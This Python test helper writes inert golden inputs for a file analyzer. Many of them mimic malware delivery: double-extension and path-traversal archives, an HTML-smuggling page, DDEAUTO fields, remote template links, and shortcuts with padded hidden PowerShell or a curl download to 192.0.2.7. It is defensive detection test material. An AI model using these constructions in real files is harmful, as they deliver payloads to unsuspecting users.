"""Writes small files of many formats, all inert: archives, images of disks, OLE storages, RTF, PDF, shortcuts, pages.

``python tests/content_writer.py`` writes the inputs of `tests/golden/`; a golden file that changes is a decision, not an accident.
"""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import io
import json
import lzma
import struct
import tarfile
import zipfile
import zlib
from pathlib import Path
from uuid import UUID

import zstandard

#: A header that says "Windows program" and does nothing.
PE = b"MZ" + bytes(58) + b"\x40\0\0\0PE\0\0" + bytes(200)
TEXT = b"The minutes of the meeting are below.\r\n"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n"
LNK_MAGIC = b"L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F"


def zipped(members: dict[str, bytes], password: str = "") -> bytes:
    """A zip; encrypted with WinZip AES where there is a password."""
    import pyzipper

    out = io.BytesIO()
    kind = pyzipper.AESZipFile if password else pyzipper.ZipFile
    with kind(out, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        if password:
            archive.setpassword(password.encode())
            archive.setencryption(pyzipper.WZ_AES, nbits=256)
        for name, data in members.items():
            info = archive.zipinfo_cls(name, (2020, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w") as member:
                member.write(data)
    return out.getvalue()


def overlapping() -> bytes:
    """A zip whose two entries use one and the same content."""
    data = zipped({"a.txt": TEXT * 5, "b.txt": TEXT * 5})
    first, second = data.find(b"PK\x01\x02"), data.rfind(b"PK\x01\x02")
    changed = bytearray(data)
    changed[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(changed)


def two_names() -> bytes:
    """A zip whose header and directory name the member differently."""
    data = bytearray(zipped({"report.txt": PE}))
    at = data.find(b"report.txt")
    data[at : at + 10] = b"report.exe"
    return bytes(data)


def tarred(members: dict[str, bytes]) -> bytes:
    """A tar."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def sevenzipped(members: dict[str, bytes], password: str = "") -> bytes:
    """A 7z; with an encrypted header where there is a password."""
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w", password=password or None, header_encryption=bool(password)) as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return out.getvalue()


def _vint(number: int) -> bytes:
    out = bytearray()
    while number > 0x7F:
        out.append(number & 0x7F | 0x80)
        number >>= 7
    return bytes((*out, number))


def _rar_block(body: bytes) -> bytes:
    sized = _vint(len(body)) + body
    return struct.pack("<L", zlib.crc32(sized)) + sized


def rar(members: dict[str, bytes]) -> bytes:
    """A RAR 5 archive of stored members (RAR 5.0 archive format, rarlab.com/technote.htm)."""
    out = b"Rar!\x1a\x07\x01\x00" + _rar_block(_vint(1) + _vint(0) + _vint(0))
    for name, data in members.items():
        raw = name.encode()
        body = _vint(2) + _vint(2) + _vint(len(data)) + _vint(4) + _vint(len(data)) + _vint(0x20)
        body += struct.pack("<L", zlib.crc32(data)) + _vint(0) + _vint(0) + _vint(len(raw)) + raw
        out += _rar_block(body) + data
    return out + _rar_block(_vint(5) + _vint(0) + _vint(0))


def cab(members: dict[str, bytes]) -> bytes:
    """A cabinet with one folder, stored (MS-CAB)."""
    entries, content = b"", b"".join(members.values())
    at = 0
    for name, data in members.items():
        entries += struct.pack("<LLHHHH", len(data), at, 0, 0x5021, 0, 0x20) + name.encode() + b"\0"
        at += len(data)
    first = 36 + 8
    start = first + len(entries)
    block = struct.pack("<LHH", 0, len(content), len(content)) + content
    header = struct.pack(
        "<4sLLLLLBBHHHHH", b"MSCF", 0, start + len(block), 0, first, 0, 3, 1, 1, len(members), 0, 0, 0
    )
    return header + struct.pack("<LHH", start, 1, 0) + entries + block


def fat(name: str, data: bytes) -> bytes:
    """A FAT12 floppy of 64 sectors with one file, NAME.EXT, and it in clusters from 2 on."""
    sector = 512
    boot = bytearray(sector)
    boot[0:3] = b"\xeb\x3c\x90"
    boot[3:11] = b"MSDOS5.0"
    struct.pack_into("<HBHBHHBHHHLL", boot, 11, sector, 1, 1, 1, 16, 64, 0xF8, 1, 1, 1, 0, 0)
    boot[36:62] = b"\x80\0\x29\x01\0\0\0NO NAME    FAT12   "
    boot[510:512] = b"\x55\xaa"
    clusters = -(-len(data) // sector)
    chain = [0xFF8, 0xFFF, *range(3, clusters + 2), 0xFFF]
    table = bytearray(sector)
    for number, value in enumerate(chain):
        at = number * 3 // 2
        pair = int.from_bytes(table[at : at + 2], "little")
        pair |= value << 4 if number % 2 else value
        table[at : at + 2] = pair.to_bytes(2, "little")
    stem, _, ending = name.upper().partition(".")
    entry = f"{stem:<8}{ending:<3}".encode() + b"\x20" + bytes(14) + struct.pack("<HL", 2, len(data))
    body = bytes(boot) + bytes(table) + entry.ljust(sector, b"\0") + data
    return body.ljust(64 * sector, b"\0")


def vhd(image: bytes) -> bytes:
    """A fixed virtual disk: the image and a footer (Virtual Hard Disk Image Format Specification 1.0)."""
    footer = bytearray(512)
    struct.pack_into(">8sLLQL4sL4sQQHBBL", footer, 0, b"conectix", 2, 0x10000, 0xFFFFFFFFFFFFFFFF, 0, b"win ", 0xA0000, b"Wi2k", len(image), len(image), 1, 2, 32, 2)  # fmt: skip
    struct.pack_into(">L", footer, 64, ~sum(footer) & 0xFFFFFFFF)
    return image + bytes(footer)


def iso(members: dict[str, bytes]) -> bytes:
    """A disc image with Joliet names."""
    import pycdlib

    disc = pycdlib.PyCdlib()
    disc.new(joliet=3)
    for number, (name, data) in enumerate(members.items()):
        disc.add_fp(io.BytesIO(data), len(data), f"/F{number}.BIN;1", joliet_path=f"/{name}")
    out = io.BytesIO()
    disc.write_fp(out)
    disc.close()
    return out.getvalue()


def cfb(streams: dict[str, bytes], clsid: bytes = bytes(16)) -> bytes:
    """An OLE storage, version 3, all streams in full sectors (MS-CFB); names with / make storages."""
    entries: list[tuple[str, int, int, int, list[int]]] = [("Root Entry", 5, -2, 0, [])]
    folders = {"": 0}
    data = b""
    for path, content in streams.items():
        *above, name = path.split("/")
        parent = 0
        for depth, folder in enumerate(above):
            key = "/".join(above[: depth + 1])
            if key not in folders:
                folders[key] = len(entries)
                entries[parent][4].append(len(entries))
                entries.append((folder, 1, 0, 0, []))
            parent = folders[key]
        entries[parent][4].append(len(entries))
        padded = content.ljust(max(4096, -(-len(content) // 512) * 512), b"\0")
        entries.append((name, 2, len(data) // 512, len(padded), []))
        data += padded
    return _cfb(entries, data, clsid)


def _cfb(entries: list[tuple[str, int, int, int, list[int]]], data: bytes, clsid: bytes) -> bytes:
    sectors = len(data) // 512
    directories = -(-len(entries) // 4)
    tables = -(-(sectors + directories + 8) // 128)
    fat_of: list[int] = []
    for _, kind, start, size, _ in entries:
        if kind == 2:
            fat_of += [*range(start + 1, start + size // 512), 0xFFFFFFFE]
    fat_of += [*range(sectors + 1, sectors + directories), 0xFFFFFFFE] + [0xFFFFFFFD] * tables
    table = struct.pack(f"<{len(fat_of)}L", *fat_of).ljust(tables * 512, b"\xff")
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
    header += struct.pack("<HHHHHHLLLLLLLLLL", 0x3E, 3, 0xFFFE, 9, 6, 0, 0, 0, tables, sectors, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)  # fmt: skip
    locations = [sectors + directories + n for n in range(tables)]
    header = header[:76] + struct.pack(f"<{tables}L", *locations) + b"\xff" * (4 * (109 - tables))
    return header + data + _directory(entries, clsid).ljust(directories * 512, b"\0") + table


def _directory(entries: list[tuple[str, int, int, int, list[int]]], clsid: bytes) -> bytes:
    """Children of a storage hang on each other to the right, which readers take."""
    right = {
        child: after
        for *_, kids in entries
        for child, after in zip(kids, [*kids[1:], -1][: len(kids)], strict=True)
    }
    out = b""
    for number, (name, kind, start, size, kids) in enumerate(entries):
        raw = name.encode("utf-16-le") + b"\0\0"
        out += raw.ljust(64, b"\0") + struct.pack("<HBB", len(raw), kind, 1)
        out += struct.pack("<lll", -1, right.get(number, -1), kids[0] if kids else -1)
        out += (clsid if not number else bytes(16)) + bytes(20) + struct.pack("<lQ", start, size)
    return out


def ole10native(name: str, data: bytes) -> bytes:
    """The stream in which Packager keeps a file."""
    raw = name.encode() + b"\0"
    path = b"C:\\Users\\a\\" + raw
    body = (
        b"\x02\0"
        + raw
        + path
        + b"\0\0\x03\0"
        + struct.pack("<L", len(path))
        + path
        + struct.pack("<L", len(data))
        + data
    )
    return struct.pack("<L", len(body)) + body


def ole1(name: str, data: bytes) -> bytes:
    """An embedded OLE 1 object (MS-OLEDS 2.2.5)."""
    raw = name.encode() + b"\0"
    return struct.pack("<LLL", 0x501, 2, len(raw)) + raw + struct.pack("<LLL", 0, 0, len(data)) + data


def rtf(objects: list[bytes], noise: str = "") -> bytes:
    """A document with objects; `noise` stands between the digits, where Word passes over it."""
    parts = "".join(
        "{\\object\\objemb{\\*\\objdata "
        + noise.join(o.hex()[i : i + 40] for i in range(0, len(o.hex()), 40))
        + "}}"
        for o in objects
    )
    return f"{{\\rtf1\\ansi The minutes.{parts}}}".encode()


def encrypted(document: bytes, password: str) -> bytes:
    """An OOXML document of more than 4 KiB as Office encrypts it (MS-OFFCRYPTO, agile)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    OOXMLFile(io.BytesIO(document)).encrypt(password, out)
    return out.getvalue()


def pdf(script: str = "", attachments: dict[str, bytes] | None = None, password: str = "") -> bytes:
    """A document with one empty page."""
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page(page_size=(72, 72))
    if script:
        action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=script)
        document.Root.OpenAction = document.make_indirect(action)
    for name, data in (attachments or {}).items():
        document.attachments[name] = data
    out = io.BytesIO()
    lock = pikepdf.Encryption(owner=password, user=password) if password else None
    document.save(out, deterministic_id=not password, encryption=lock)
    return out.getvalue()


def lnk(
    target: str, arguments: str = "", icon: str = "", appended: bytes = b"", machine: str = "", show: int = 1
) -> bytes:
    """A shortcut with a relative path, arguments and an icon (MS-SHLLINK)."""
    flags = 0x80 | 0x08 | (0x20 if arguments else 0) | (0x40 if icon else 0)
    header = (
        LNK_MAGIC
        + struct.pack("<LL", flags, 0x20)
        + bytes(24)
        + struct.pack("<LLLHHLL", 0, 0, show, 0, 0, 0, 0)
    )
    strings = b"".join(
        struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in (target, arguments, icon) if text
    )
    block = b""
    if machine:
        block = (
            struct.pack("<LLLL", 0x60, 0xA0000003, 0x58, 0) + machine.encode().ljust(16, b"\0") + bytes(64)
        )
    return header + strings + block + bytes(4) + appended


def onenote(files: list[bytes]) -> bytes:
    """The beginning of a section and file data objects (MS-ONESTORE)."""
    head = UUID("7b5c52e4-d88c-4da7-aeb1-5378d02996d3").bytes_le.ljust(1024, b"\0")
    store, foot = (
        UUID(u).bytes_le
        for u in ("bde316e7-2665-4511-a4c4-8d4d0b7a9eac", "71fba722-0f79-4a0b-bb13-899256426b24")
    )
    return head + b"".join(store + struct.pack("<QLQ", len(f), 0, 0) + f + foot for f in files)


def page(data: bytes, name: str) -> bytes:
    """A page that makes a file of Base64 and clicks on it."""
    text = base64.b64encode(data).decode()
    return (
        "<!DOCTYPE html><html><body><script>\n"
        f"var b = '{text[:200]}' + '{text[200:]}';\nvar a = document.createElement('a');\n"
        "a.href = URL.createObjectURL(new Blob([atob(b)]));\n"
        f"a.download = '{name}';\na.click();\n</script></body></html>\n"
    ).encode()


def flat(parts: dict[str, bytes]) -> bytes:
    """An Office document as one XML."""
    body = "".join(
        f'<pkg:part pkg:name="/{name}" pkg:contentType="application/octet-stream"><pkg:binaryData>{base64.b64encode(data).decode()}</pkg:binaryData></pkg:part>'
        for name, data in parts.items()
    )
    return f'<?xml version="1.0"?>\n<?mso-application progid="Word.Document"?>\n<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">{body}</pkg:package>'.encode()


NOISE = b"".join(hashlib.sha256(bytes((n,))).digest() for n in range(20))
DOCX = zipped(
    {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/document.xml": b"<w:document/>",
    }
)
LARGE = zipped(
    {
        "[Content_Types].xml": b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
        "word/media/a.bin": b"".join(hashlib.sha256(bytes((n,))).digest() for n in range(200)),
    }
)
STORAGE = cfb({"\x01Ole10Native": ole10native("minutes.exe", PE), "Notes": TEXT * 3})
SHORTCUT = lnk("..\\..\\Windows\\System32\\cmd.exe", " " * 300 + "/c powershell -w hidden echo hello", "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", PE, "john-pc", 7)  # fmt: skip

_FIELD_PARTS = b'<w:fldChar w:fldCharType="begin"/><w:instrText>DDEA</w:instrText><w:instrText xml:space="preserve">UTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k echo&quot;</w:instrText><w:fldChar w:fldCharType="end"/>'


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    """A part of relationships with one."""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return f'<?xml version="1.0"?><Relationships><Relationship Id="a" Type="{base}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'.encode()


#: By analyzer: name of the golden file, what the analyzer is told the name is, content.
GOLDEN: dict[str, list[tuple[str, str, bytes]]] = {
    "zip": [
        ("decoy_pair", "m.zip", zipped({"取材依頼書.docx.exe": PE, "取材依頼書.docx": DOCX, "notes.txt": TEXT})),
        ("only_program", "m.zip", zipped({"a.exe": PE})),
        ("traversal", "m.zip", zipped({"../../a.txt": TEXT})),
        ("near_traversal", "m.zip", zipped({"..a/b..c/a...txt": TEXT})),
        ("overlap", "m.zip", overlapping()),
        ("two_names", "m.zip", two_names()),
        ("opened", "m.zip", zipped({"a.txt": TEXT}, "infected")),
        ("locked", "m.zip", zipped({"a.txt": TEXT}, "no word that anybody tries")),
        ("document", "m.docx", DOCX),
        ("cut", "m.zip", zipped({"a.txt": TEXT * 20, "b.txt": TEXT * 20})[:-60]),
        ("plain", "m.zip", zipped({"a.txt": TEXT, "b.txt": TEXT + b"b"})),
    ],
    "7z": [
        ("plain", "m.7z", sevenzipped({"a.exe": PE})),
        ("opened", "m.7z", sevenzipped({"a.txt": TEXT}, "infected")),
        ("locked", "m.7z", sevenzipped({"a.txt": TEXT}, "no word that anybody tries")),
    ],
    "tar": [("plain", "m.tar", tarred({"a/b.txt": TEXT, "../c.exe": PE}))],
    "compressed": [
        ("gz", "m.tgz", gzip.compress(tarred({"a.txt": TEXT}), mtime=0)),
        ("bz2", "m.exe.bz2", bz2.compress(PE)),
        ("xz", "m.txt.xz", lzma.compress(TEXT)),
        ("zst", "m.txt.zst", zstandard.ZstdCompressor().compress(TEXT)),
        ("cut", "m.txt.gz", gzip.compress(TEXT * 99, mtime=0)[:-20]),
    ],
    "unpacker": [
        ("rar", "m.rar", rar({"a.exe": PE, "b.txt": TEXT})),
        ("cab", "m.cab", cab({"a.exe": PE, "b.txt": TEXT})),
        ("fat", "m.img", fat("minutes.exe", PE)),
        ("vhd", "m.vhd", vhd(fat("minutes.exe", PE))),
        ("broken", "m.rar", rar({"a.exe": PE})[:60]),
    ],
    "iso": [
        ("japanese", "m.iso", iso({"議事録.lnk": SHORTCUT, "readme.txt": TEXT})),
        ("harmless", "m.iso", iso({"readme.txt": TEXT})),
    ],
    "ole": [("linked", "m.doc", cfb({"\x01Ole10Native": b"K\0\0\0\x02\0calc.exe\0C:\\Windows\\calc.exe\0\0\0\x01\0\x01\0C:\\a.exe\0" + bytes(20)})), ("package", "m.doc", STORAGE), ("plain", "m.doc", cfb({"A/B": TEXT * 2, "Notes": TEXT * 3}))],
    "rtf": [
        ("package", "m.rtf", rtf([ole1("Package", ole10native("minutes.exe", PE)[4:])])),
        ("noise", "m.rtf", rtf([ole1("pAcKaGe", ole10native("minutes.exe", PE)[4:])], "\r\n{\\*\\x1 ab}\t\\yy2 ")),
        ("picture", "m.rtf", b"{\\rtf1{\\pict\\pngblip 89504e47}}"),
    ],
    "pdf": [
        ("script_and_file", "m.pdf", pdf("app.alert('hello');", {"minutes.exe": PE, "notes.txt": TEXT})),
        ("plain", "m.pdf", pdf()),
    ],
    "one": [("program", "m.one", onenote([PE, TEXT])), ("plain", "m.one", onenote([]))],
    "page": [
        ("smuggled", "m.html", page(zipped({"a.exe": PE + NOISE}), "minutes.zip")),
        ("data_url", "m.html", b"<html><a download='a' href='data:application/zip;base64," + base64.b64encode(zipped({"a.txt": TEXT})) + b"'>x</a></html>"),
        ("picture", "m.html", b"<html><img src='data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(400)) + b"'></html>"),
        ("login", "m.html", b"<html><form action='https://login.example/x'><input type='password'></form></html>"),
    ],
    "shortcut": [
        ("padded", "m.lnk", SHORTCUT),
        ("honest", "m.lnk", lnk("..\\notes.txt", icon="C:\\Windows\\notepad.exe")),
        ("administrator", "m.lnk", lnk("..\\cmd.exe", "/k cd C:\\scripts")),
        ("foreign_share", "m.lnk", lnk("..\\explorer.exe", "\\\\192.0.2.7@80\\DavWWWRoot\\a.scr")),
        ("share_of_the_house", "m.lnk", lnk("\\\\files\\tools\\editor.exe", "/open")),
        ("library_as_picture", "m.lnk", lnk("..\\rundll32.exe", "photo.jpg,Start")),
        ("control_panel", "m.lnk", lnk("..\\rundll32.exe", "shell32.dll,Control_RunDLL desk.cpl")),
        ("headless", "m.lnk", lnk("..\\conhost.exe", "--headless cmd /c curl http://192.0.2.7/a -o a.vbs")),
        ("share", "m.url", b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.exe\r\nIconFile=\\\\192.0.2.7\\i\\a.ico\r\n"),
        ("web", "m.url", b"[InternetShortcut]\r\nURL=https://www.example/\r\n"),
    ],
    "word_field": [
        ("wide", "WordDocument", b"\xec\xa5" + bytes(30) + "Text\r\x13DDEAUTO c:\\\\windows\\\\cmd.exe \"/k echo\"\x14!\x15".encode("utf-16-le") + bytes(30)),
        ("narrow", "WordDocument", b"\xec\xa5" + bytes(30) + b"Text\r\x13 DDE Excel a.xls R1C1 \x14!\x15"),
        ("harmless", "WordDocument", b"\xec\xa5" + bytes(30) + b"DDEAUTO is a word\r\x13 PAGE \x14" + b"1\x15"),
        ("formula", "m.xml", b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=cmd|'/k echo'!A1\"/></Workbook>"),
        ("sum", "m.xml", b"<?xml version='1.0'?><Workbook xmlns='urn:schemas-microsoft-com:office:spreadsheet'><Cell ss:Formula=\"=SUM(A1:A2)\"/></Workbook>"),
    ],
    "ooxml": [
        ("template", "settings.xml.rels", relation("attachedTemplate", "http://192.0.2.7/t.dotm")),
        ("own_template", "settings.xml.rels", relation("attachedTemplate", "Normal.dotm")),
        ("page", "document.xml.rels", relation("oleObject", "mhtml:http://192.0.2.7/a.html!x-usc:http://192.0.2.7/a.html")),
        ("linked_object", "document.xml.rels", relation("oleObject", "file:///C:\\a.docx")),
        ("hyperlink", "document.xml.rels", relation("hyperlink", "https://www.example/")),
        ("inside", "document.xml.rels", relation("attachedTemplate", "http://192.0.2.7/t.dotm", "Internal")),
        ("dde_in_pieces", "document.xml", b"<?xml version='1.0'?><w:document>" + _FIELD_PARTS + b"</w:document>"),
        ("page_number", "document.xml", b"<?xml version='1.0'?><w:document><w:fldSimple w:instr=\" PAGE \"/><w:t>DDEAUTO is a word</w:t></w:document>"),
        ("dde_link", "externalLink1.xml", b"<?xml version='1.0'?><externalLink><ddeLink ddeService='cmd' ddeTopic='/k echo'/></externalLink>"),
    ],
    "flat_opc": [("macro", "m.xml", flat({"word/vbaProject.bin": STORAGE})), ("plain", "m.xml", flat({"a.bin": TEXT}))],
    "encrypted_office": [("default_password", "m.docx", encrypted(LARGE, "VelvetSweatshop")), ("locked", "m.docx", encrypted(LARGE, "no word that anybody tries")), ("not_encrypted", "m.doc", cfb({"WordDocument": bytes(600), "1Table": bytes(600)}))],
}  # fmt: skip


def main() -> None:
    """Write what is not there yet; delete a file to have it written anew."""
    import elf_writer
    import exploit_rules
    import macho_writer
    import macro_writer
    import mail_writer
    import pe_writer
    import variant_writer

    root = Path(__file__).parent / "golden"
    others = {
        "pe": pe_writer.cases(),
        "masked": pe_writer.masked_cases(),
        "elf": elf_writer.cases(),
        "macho": macho_writer.cases(),
    }
    written = (
        GOLDEN,
        mail_writer.GOLDEN,
        macro_writer.GOLDEN,
        exploit_rules.golden(),
        variant_writer.GOLDEN,
        others,
    )
    for analyzer, cases in (pair for golden in written for pair in golden.items()):
        (root / analyzer).mkdir(parents=True, exist_ok=True)
        for stem, name, data in cases:
            path = root / analyzer / f"{stem}.in"
            if not path.exists():
                path.write_bytes(data)
                path.with_suffix(".out").write_text(json.dumps({"name": name}), "utf-8")


if __name__ == "__main__":
    main()
